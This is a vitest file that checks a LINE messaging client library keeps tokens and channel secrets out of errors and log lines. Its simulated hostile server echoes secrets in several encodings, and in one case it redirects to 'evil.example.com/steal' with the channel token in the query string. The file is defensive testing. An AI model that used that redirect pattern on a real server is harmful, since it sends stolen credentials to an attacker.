// Reliability (issue 11): no token, refresh token or channel secret in any error or log line, in any
// encoding. Secrets hold `+ / = & %`, both quotes and a backslash (secret-scan.ts). The paths a secret
// could take back to a caller: a hostile LINE that echoes what it received (headers, the reissue form) in
// every error answer, in plain, URL-encoded, form-encoded and JSON-escaped form, and in a redirect;
// connections refused, reset and timed out; a token store and a token provider whose errors quote what
// they hold; options rejected for a stray space; webhook requests that carry the secrets themselves.
// Everything is collected (rejections, SendError reports and causes, onRequest and onRefreshError errors,
// webhook onError, every logger line, debug included) and scanned. A control scan of the server's own
// echoes proves the scanner sees every form.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createClient,
  createRefreshingToken,
  createWebhookHandler,
  handleWebhookBody,
  parseWebhook,
  text,
  type ClientOptions,
  type LineClient,
  type StoredToken,
  type TokenStore,
  type Transport,
} from '../../src/index.js';
import { createUndiciTransport, type UndiciTransport } from '../../src/node/index.js';
import { writeFigures } from './reliability-report.js';
import { createLeakScanner, secretForms, secrets } from './secret-scan.js';

const startedAt = Date.now();
const scanner = createLeakScanner();
/** What the hostile server sent back: scanning it must find every secret it received, in every form. */
const control = createLeakScanner();
const scenarios: string[] = [];
let server: Server;
let base = '';
const transports: UndiciTransport[] = [];

/** Everything the request carried, in each form a server might echo it: raw, URL- and form-encoded (either hex case), JSON-escaped. */
function echoOf(req: IncomingMessage, body: string): string {
  const values = [...Object.values(req.headers).flat().filter((value): value is string => typeof value === 'string'), body, ...new URLSearchParams(body).values()];
  const lowerHex = (text: string) => text.replace(/%[0-9A-F]{2}/g, (escape) => escape.toLowerCase());
  return values
    .flatMap((value) => {
      const url = encodeURIComponent(value);
      const form = new URLSearchParams([['', value]]).toString().slice(1);
      return [value, url, lowerHex(url), form, lowerHex(form), JSON.stringify(value), JSON.stringify(value).replaceAll('/', '\\/')];
    })
    .join(' | ');
}

// Each endpoint answers the next status of its list in turn, with the echo as LINE's statusCode and statusMessage.
// (Timeouts are the next test's: a hanging server.)
const answers: Record<string, (number | 'reset' | 'redirect' | 'garbage-200' | 'cut-200')[]> = {
  '/v1/events': [400, 401, 403, 404, 413, 422, 429, 500, 502, 503, 'redirect', 'reset'],
  '/v1/oauth/accessToken': [401, 500, 'garbage-200', 'cut-200', 'redirect', 'reset', 400],
  other: [400, 401, 404, 500, 503, 'redirect', 'reset'],
};
const turns = new Map<string, number>();

function hostile(req: IncomingMessage, res: ServerResponse): void {
  const chunks: Buffer[] = [];
  req.on('data', (chunk: Buffer) => chunks.push(chunk));
  req.on('end', () => {
    const body = Buffer.concat(chunks).toString('utf8');
    const echo = echoOf(req, body);
    control.collect(echo, `echo of ${req.url}`);
    const key = req.url === '/v1/events' || req.url === '/v1/oauth/accessToken' ? req.url : 'other';
    const turn = turns.get(key) ?? 0;
    turns.set(key, turn + 1);
    const answer = answers[key]![turn % answers[key]!.length]!;
    const json = JSON.stringify({ statusCode: echo.slice(0, 200), statusMessage: echo });
    if (answer === 'reset') return req.socket.resetAndDestroy();
    if (answer === 'redirect') {
      res.writeHead(307, { location: `http://evil.example.com/steal?${new URLSearchParams({ token: String(req.headers['x-line-channeltoken']), body })}`, 'content-type': 'application/json' });
      return res.end(json);
    }
    if (answer === 'garbage-200') {
      res.writeHead(200, { 'content-type': 'application/json' });
      return res.end(`{"accessToken":${JSON.stringify(echo)}`);
    }
    if (answer === 'cut-200') {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': '100000' });
      return res.write(json.slice(0, 5_000), () => req.socket.resetAndDestroy());
    }
    res.writeHead(answer, { 'content-type': 'application/json', ...(answer === 429 ? { 'retry-after': '0' } : {}) });
    res.end(json);
  });
}

beforeAll(async () => {
  server = createServer(hostile);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await Promise.all(transports.map((transport) => transport.close()));
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  const leaks = scanner.scan();
  writeFigures(
    'secrets',
    {
      title: 'Secrets: errors and log lines of hostile echoes, network failures, throwing stores and providers, rejected options and webhook requests',
      casesRun: scenarios.length,
      unit: 'scenarios',
      leaksFound: leaks.length,
      itemsScanned: scanner.collected,
      details: {
        'secret forms looked for': Object.values(secrets).reduce((sum, secret) => sum + secretForms(secret).length, 0),
        'secret forms the hostile server echoed, all found by the scanner (control)': new Set(control.scan().map((leak) => leak.form)).size,
      },
    },
    startedAt,
  );
});

/** Runs `work`, collecting its rejection for the scan; says whether it was rejected or resolved. */
async function collect(where: string, work: () => Promise<unknown>): Promise<'rejected' | 'resolved'> {
  scenarios.push(where);
  try {
    await work();
    return 'resolved';
  } catch (error) {
    scanner.collect(error, where);
    return 'rejected';
  }
}

/** The client calls that reach LINE, each `rounds` times (once per status of the hostile server's lists); `all: false`, send and a download only. */
async function exercise(label: string, client: LineClient, rounds: number, all = true): Promise<void> {
  for (let i = 0; i < rounds; i++) {
    await collect(`${label} send ${i}`, () => client.send(['u1', 'u2'], text('hello'), { onRequest: (outcome) => void (outcome.ok || scanner.collect(outcome.error, `${label} onRequest`)) }));
    await collect(`${label} getMessageContent ${i}`, () => client.getMessageContent('m1'));
    if (!all) continue;
    await collect(`${label} getProfiles ${i}`, () => client.getProfiles(['u1']));
    await collect(`${label} leaveGroup ${i}`, () => client.leaveGroup('g1'));
  }
}

const quick = { maxAttempts: 2, baseDelayMs: 0, sleep: () => Promise.resolve() };
const transportsToTry: [string, () => Transport | undefined][] = [
  ['fetch', () => undefined],
  [
    'undici',
    () => {
      const transport = createUndiciTransport();
      transports.push(transport);
      return transport;
    },
  ],
];

describe('no secret in any error or log line', () => {
  it.each(transportsToTry)('a LINE that echoes every header and form in every error, over the %s transport (channel token, reissuing provider, Trial)', async (name, makeTransport) => {
    const transport = makeTransport();
    const logger = scanner.logger(`${name} client`);
    const common: ClientOptions = { baseUrl: base, timeoutMs: 300, retry: quick, logger, ...(transport ? { transport } : {}) };
    await exercise(`${name} token`, createClient({ ...common, channelToken: secrets.channelToken }), answers['/v1/events']!.length);
    const provider = createRefreshingToken({
      accessToken: secrets.channelToken,
      refreshToken: secrets.refreshToken,
      channelSecret: secrets.channelSecret,
      baseUrl: base,
      timeoutMs: 300,
      retry: quick,
      logger,
      ...(transport ? { transport } : {}),
      onRefresh: () => undefined,
      onRefreshError: (error) => scanner.collect(error, `${name} onRefreshError`),
    });
    // Every 401 to a send makes the provider reissue through the hostile endpoint.
    await exercise(`${name} provider`, createClient({ ...common, channelToken: provider }), answers['/v1/oauth/accessToken']!.length);
    for (let i = 0; i < answers['/v1/oauth/accessToken']!.length; i++) {
      provider.invalidate?.(await provider.getToken().catch(() => secrets.channelToken));
      await collect(`${name} reissue ${i}`, () => provider.getToken());
    }
    await exercise(`${name} trial`, createClient({ ...common, trial: { channelId: '1441301333', channelSecret: secrets.trialChannelSecret, channelMid: 'u0cc15697597f61dd8b01cea8b027050e' } }), 3);
    // The hostile server received every secret the client holds and echoed it in every form the scanner
    // knows: the final scan is not vacuous.
    const sent = ['channelSecret', 'channelToken', 'refreshToken', 'trialChannelSecret'] as const;
    const echoed = new Set(control.scan().map((leak) => `${leak.secret} ${leak.form}`));
    expect([...echoed].sort()).toEqual(sent.flatMap((name) => secretForms(secrets[name]).map((form) => `${name} ${form}`)).sort());
  }, 120_000);

  it.each(transportsToTry)('connections refused, reset and timed out over the %s transport', async (name, makeTransport) => {
    const transport = makeTransport();
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const closedUrl = `http://127.0.0.1:${(closed.address() as AddressInfo).port}`;
    await new Promise((resolve) => closed.close(resolve));
    const resetting = createServer((req) => req.socket.resetAndDestroy());
    const hanging = createServer(() => {});
    for (const each of [resetting, hanging]) await new Promise<void>((resolve) => each.listen(0, '127.0.0.1', resolve));
    const urlOf = (each: Server) => `http://127.0.0.1:${(each.address() as AddressInfo).port}`;
    try {
      for (const [what, baseUrl] of [['refused', closedUrl], ['reset', urlOf(resetting)], ['timeout', urlOf(hanging)]] as const) {
        const retry = what === 'timeout' ? { ...quick, maxAttempts: 1 } : quick;
        const options: ClientOptions = { baseUrl, timeoutMs: 300, retry, logger: scanner.logger(`${name} ${what}`), ...(transport ? { transport } : {}) };
        // A timeout costs its time limit (undici's timers run up to about 0.5 s late): fewer calls there.
        await exercise(`${name} ${what} token`, createClient({ ...options, channelToken: secrets.channelToken }), 1, what !== 'timeout');
        await exercise(`${name} ${what} trial`, createClient({ ...options, trial: { channelId: '1', channelSecret: secrets.trialChannelSecret, channelMid: 'u1' } }), 1, what !== 'timeout');
        const provider = createRefreshingToken({ accessToken: secrets.channelToken, refreshToken: secrets.refreshToken, channelSecret: secrets.channelSecret, baseUrl, timeoutMs: 300, retry, expiresAt: 0, onRefresh: () => undefined, ...(transport ? { transport } : {}) });
        expect(await collect(`${name} ${what} reissue`, () => provider.getToken())).toBe('rejected');
      }
    } finally {
      for (const each of [resetting, hanging]) {
        each.closeAllConnections();
        await new Promise((resolve) => each.close(resolve));
      }
    }
  }, 60_000);

  // Only what the library held can be redacted: the store and the provider below first hand the pair
  // over, then fail quoting it (a secret the library never saw is the caller's to keep out of its errors).
  it('a token store and a token provider whose errors quote what they hold', async () => {
    const quote = (pair: StoredToken | undefined) => `${JSON.stringify(pair)} ${encodeURIComponent(pair?.refreshToken ?? '')} ${pair?.accessToken}`;
    const pair: StoredToken = { accessToken: secrets.channelToken, refreshToken: secrets.refreshToken, expiresAt: 0 };
    const failing = (step: keyof TokenStore): TokenStore => {
      let reads = 0;
      return {
        read: async () => {
          if (step === 'read' && reads++ > 0) throw new Error(`redis GET failed: ${quote(pair)}`);
          return pair;
        },
        compareAndSet: async (_expected, next) => {
          throw new Error(`redis EVAL failed: ${quote(next)} ${quote(pair)}`, { cause: new Error(quote(pair)) });
        },
        acquireLease: async () => {
          if (step === 'acquireLease') throw Object.assign(new Error(`lease failed for ${secrets.channelToken}`), { code: 'ELEASE' });
          return true;
        },
        releaseLease: async () => {
          throw new Error(`release failed: ${quote(pair)}`);
        },
      };
    };
    for (const step of ['read', 'acquireLease', 'compareAndSet'] as const) {
      const provider = createRefreshingToken({ store: failing(step), channelSecret: secrets.channelSecret, baseUrl: base, retry: quick, timeoutMs: 300, logger: scanner.logger(`store ${step}`), onRefreshError: (error) => scanner.collect(error, `store ${step} onRefreshError`) });
      // The pair expired (expiresAt 0): the first getToken reads it, then rotates, meeting the failing step.
      expect(await collect(`store ${step} getToken`, () => provider.getToken())).toBe('rejected');
      expect(await collect(`store ${step} send`, () => createClient({ channelToken: provider, baseUrl: base, retry: quick, timeoutMs: 300 }).send('u1', text('x')))).toBe('rejected');
    }
    let calls = 0;
    const throwing = {
      getToken: async () => {
        if (calls++ === 0) return secrets.channelToken;
        throw new Error(`vault: token ${secrets.channelToken} expired`, { cause: new Error(JSON.stringify({ token: secrets.channelToken })) });
      },
    };
    const client = createClient({ channelToken: throwing, baseUrl: base, retry: quick, timeoutMs: 300 });
    for (let i = 0; i < 3; i++) expect(await collect(`throwing provider ${i}`, () => client.send('u1', text('x')))).toBe('rejected');
  });

  it('options refused for a stray space or line break do not repeat the value', async () => {
    const attempts: [string, () => unknown][] = [
      ['channelToken with a space', () => createClient({ channelToken: `${secrets.channelToken} ` })],
      ['channelToken with a line break', () => createClient({ channelToken: `${secrets.channelToken}\n` })],
      ['trial secret with a line break', () => createClient({ trial: { channelId: '1', channelSecret: `${secrets.trialChannelSecret}\r\n`, channelMid: 'u1' } })],
      ['provider token with a space', () => createClient({ channelToken: { getToken: async () => ` ${secrets.channelToken}` } }).send('u1', text('x'))],
    ];
    for (const [where, attempt] of attempts) expect(await collect(where, async () => attempt()), where).toBe('rejected');
  });

  it('webhook requests that carry the secrets themselves (as signature, body, header) are rejected without echoing them', async () => {
    const logger = scanner.logger('webhook');
    const handler = createWebhookHandler({ channelSecret: [secrets.channelSecret, secrets.previousChannelSecret], logger, onError: (error) => scanner.collect(error, 'webhook onError') });
    const bodies = [JSON.stringify({ result: [{ token: secrets.channelToken, secret: secrets.channelSecret }] }), secrets.channelSecret, `{"result":${JSON.stringify(secrets.refreshToken)}}`, `${secrets.channelToken}\u00ff`];
    for (const body of bodies) {
      for (const signature of [secrets.channelSecret, secrets.channelToken, encodeURIComponent(secrets.refreshToken), '']) {
        scenarios.push('webhook request');
        const response = await handler(new Request('https://bot.example.com/callback', { method: 'POST', headers: { 'x-line-channelsignature': signature, 'x-forwarded-token': secrets.channelToken }, body }));
        // None of these strings is the body's HMAC (or it is empty): refused as not signed by LINE.
        expect(response.status).toBe(401);
        scanner.collect(await response.text(), 'webhook response body');
        expect(await collect('parseWebhook', () => parseWebhook(new Request('https://bot.example.com/callback', { method: 'POST', headers: { 'x-line-channelsignature': signature }, body }), { channelSecret: secrets.channelSecret }))).toBe('rejected');
        expect(await collect('handleWebhookBody', () => handleWebhookBody(body, signature, { channelSecret: secrets.channelSecret }))).toBe('rejected');
      }
    }
  });

  it('none of the secrets, in any form, appears in anything collected', () => {
    // Every client path above failed somewhere: the scan has material.
    expect(scanner.collected).toBeGreaterThan(300);
    expect(scanner.scan()).toEqual([]);
  });
});
